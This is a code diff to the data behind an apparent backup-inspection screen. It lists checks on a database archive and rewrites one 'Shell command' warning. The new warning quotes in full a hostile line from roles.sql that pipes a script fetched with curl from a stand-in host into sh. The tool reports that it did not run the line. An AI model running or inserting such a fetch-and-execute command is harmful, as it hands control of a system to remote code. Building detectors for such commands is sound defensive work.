@@ -45,7 +45,7 @@ export const inspection: InspectionView = {
     { level: 'warning', title: 'Not authenticated', words: 'This kind of encryption cannot show changes. The checksums below can.' },
     { level: 'good', title: 'Checksums', words: '4 of 4 components match their SHA-256' },
     { level: 'good', title: 'Readable', words: 'the archive lists 39 tables; every part was opened' },
-    { level: 'danger', title: 'Shell command', words: '`roles.sql`, line 12: `\\! curl…` would run a program. It was not run and is left out of a restore.' },
+    { level: 'danger', title: 'Shell command', words: 'database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh — would run a program. It was not run; the script is not loaded.' },
   ],
   belongsTo: { projectId: 'p-shop-prod', project: 'shop-prod', why: '38 of 39 tables are known there' },
   backupId: null,
